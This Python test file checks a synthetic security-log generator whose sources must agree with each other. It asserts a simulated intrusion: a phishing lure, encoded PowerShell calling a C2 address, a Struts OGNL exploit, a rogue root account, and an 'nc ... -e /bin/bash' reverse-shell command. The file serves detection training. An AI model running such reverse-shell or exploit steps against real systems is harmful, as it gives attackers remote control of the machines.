"""Sources agree with each other about what happened."""

from __future__ import annotations

import base64
import json
import re
from typing import TYPE_CHECKING, Any, Tuple

import pytest

from preview.generator.organisation import HOSTS

if TYPE_CHECKING:
    from tests.preview.sample_reader import Sample

C2 = "45.77.53.176"
BUILT = re.compile(
    r"Built (?P<way>in|out)bound \w+ connection (?P<number>\d+) for "
    r"outside:(?P<outer>[\d.]+)/(?P<outer_port>\d+) \(.*?\) "
    r"to inside:(?P<inner>[\d.]+)/(?P<inner_port>\d+)"
)
TEARDOWN = re.compile(r"Teardown \w+ connection (\d+) ")
NEW_PROCESS = re.compile(r"New Process ID:\t\t0x([0-9a-f]+)\n\tNew Process Name:\t(.+)")

Flow = Tuple[str, str, str, str]


@pytest.fixture(scope="module")
def probe(written: Sample) -> set[Flow]:
    """Return source and destination of every flow that the probe saw."""
    return {
        (flow["src_ip"], str(flow["src_port"]), flow["dest_ip"], str(flow["dest_port"]))
        for flow in written.raw_json("stream_ip")
    }


def crosses(flow: Flow) -> bool:
    return flow[0].startswith("192.168.") != flow[2].startswith("192.168.")


def test_about_thirty_hosts() -> None:
    assert len(HOSTS) == 30


def test_at_least_twelve_sourcetypes(written: Sample) -> None:
    assert len(written.summary()["sourcetypes"]) >= 12


def test_sysmon_connections_are_on_the_network(written: Sample, probe: set[Flow]) -> None:
    sysmon = {
        (row["SourceIp"], row["SourcePort"], row["DestinationIp"], row["DestinationPort"])
        for row in written.sysmon(3)
    }
    assert sysmon <= probe


def test_requests_are_on_the_network(written: Sample, probe: set[Flow]) -> None:
    requests = {
        (row["src_ip"], str(row["src_port"]), row["dest_ip"], str(row["dest_port"]))
        for row in written.raw_json("stream_http")
    }
    assert requests <= probe


def test_firewall_sees_what_crosses_it_and_nothing_else(written: Sample, probe: set[Flow]) -> None:
    built = set()
    numbers = []
    ended = []
    for event in written.events("cisco_asa"):
        match = BUILT.search(event["_raw"])
        if match:
            inner = match["inner"], match["inner_port"]
            outer = match["outer"], match["outer_port"]
            built.add(inner + outer if match["way"] == "out" else outer + inner)
            numbers.append(match["number"])
        ended += TEARDOWN.findall(event["_raw"])
    assert built == {flow for flow in probe if crosses(flow)}
    assert len(numbers) == len(set(numbers))
    assert sorted(numbers) == sorted(ended)


def test_dns_answers_match_the_connections(written: Sample) -> None:
    answers: dict[str, set[str]] = {}
    for lookup in written.raw_json("stream_dns"):
        answers.setdefault(lookup["query"][0], set()).update(lookup["host_addr"])
    checked = 0
    for connection in written.sysmon(3):
        name = connection["DestinationHostname"]
        if name in answers:
            checked += 1
            assert connection["DestinationIp"] in answers[name]
    assert checked > 3000


def test_security_log_and_sysmon_see_the_same_processes(written: Sample) -> None:
    security = set()
    for event in written.events("windows_security"):
        match = NEW_PROCESS.search(event["_raw"])
        if match:
            security.add((str(int(match[1], 16)), match[2]))
    assert security == {(row["ProcessId"], row["Image"]) for row in written.sysmon(1)}


def test_audit_log_repeats_the_sign_ins(written: Sample) -> None:
    audited = [
        (row["InterSystemsId"], row["UserId"], row["ClientIP"])
        for row in written.raw_json("unified_audit")
        if row["Operation"] in ("UserLoggedIn", "UserLoginFailed")
    ]
    signins = [
        (row["id"], row["userPrincipalName"], row["ipAddress"])
        for row in written.raw_json("signin")
    ]
    assert sorted(audited) == sorted(signins)


def test_mail_with_outside_is_on_the_network(written: Sample) -> None:
    outside = {
        row["MessageId"]
        for row in written.raw_json("messagetrace")
        if not (
            row["SenderAddress"].endswith("@froth.ly")
            and row["RecipientAddress"].endswith("@froth.ly")
        )
    }
    assert outside == {row["msg_id"] for row in written.raw_json("stream_smtp")}


def test_lure_is_quarantined_and_comes_again_smaller(written: Sample) -> None:
    first = [
        json.loads(event["_raw"]) for event in written.told("quarantined_lure", "messagetrace")
    ]
    again = [json.loads(event["_raw"]) for event in written.told("resent_lure", "messagetrace")]
    assert {row["Status"] for row in first} == {"Quarantined"}
    assert {row["Status"] for row in again} == {"Delivered"}
    assert {row["Subject"] for row in first + again} == {"Draft Financial Plan for Brewery FY2019"}
    assert max(row["Size"] for row in again) < min(row["Size"] for row in first)


def test_anonymous_link_is_opened_from_many_addresses(written: Sample) -> None:
    used = [
        json.loads(event["_raw"]) for event in written.told("anonymous_link_used", "unified_audit")
    ]
    assert len({row["ClientIP"] for row in used}) >= 7
    assert len({row["ObjectId"] for row in used}) == 1


def test_encoded_powershell_decodes_to_the_server(written: Sample) -> None:
    commands = [
        row["CommandLine"]
        for row in written.sysmon(1)
        if row["Image"].endswith("powershell.exe") and re.search(r"-enc \w{40}", row["CommandLine"])
    ]
    first = base64.b64decode(commands[0].rpartition(" ")[2]).decode("utf-16-le")
    assert f"https://{C2}:443" in first
    assert len(commands) >= 3


def test_c2_is_seen_by_several_sources_and_hosts(written: Sample) -> None:
    seen = {path.stem: 0 for path in written.files()}
    hosts = set()
    for name in seen:
        for event in written.events(name):
            if C2 in event["_raw"]:
                seen[name] += 1
                hosts.add(event["host"])
    sources = {name for name, count in seen.items() if count}
    assert {"sysmon", "cisco_asa", "stream_ip", "osquery", "stream_http"} <= sources
    assert {"FYODOR-L", "ABUNGST-L", "hoth"} <= hosts


def test_exploit_request_names_ognl_and_hoth_runs_its_command(written: Sample) -> None:
    requests = [
        json.loads(event["_raw"]) for event in written.told("struts_exploit", "stream_http")
    ]
    commands = [
        json.loads(event["_raw"])["columns"]["cmdline"]
        for event in written.told("server_command", "osquery")
    ]
    for request in requests:
        assert request["dest_ip"] == "192.168.9.30"
        assert "ognl.OgnlContext" in request["form_data"]
    assert f"nc {C2} 8088 -e /bin/bash" in commands


def test_second_root_account_appears_on_hoth(written: Sample) -> None:
    rows: list[dict[str, Any]] = written.told("root_account", "osquery")
    columns = [json.loads(event["_raw"])["columns"] for event in rows]
    assert {event["host"] for event in rows} == {"hoth"}
    assert any(row.get("username") == "tomcat7" and row.get("uid") == "0" for row in columns)


def test_benign_look_alikes_are_there(written: Sample) -> None:
    bad = {label["line"] for label in written.labels() if label["file"] == "events/sysmon.jsonl"}
    benign = "\n".join(
        event["_raw"]
        for number, event in enumerate(written.events("sysmon"), start=1)
        if number not in bad
    )
    for mark in (
        "-EncodedCommand ",
        "schtasks.exe /create",
        "net.exe user kiosk",
        "fodhelper.exe",
        "tar.exe",
        "DownloadString",
        "0x1410",
        "CtrlRoutine",
    ):
        assert mark in benign, mark
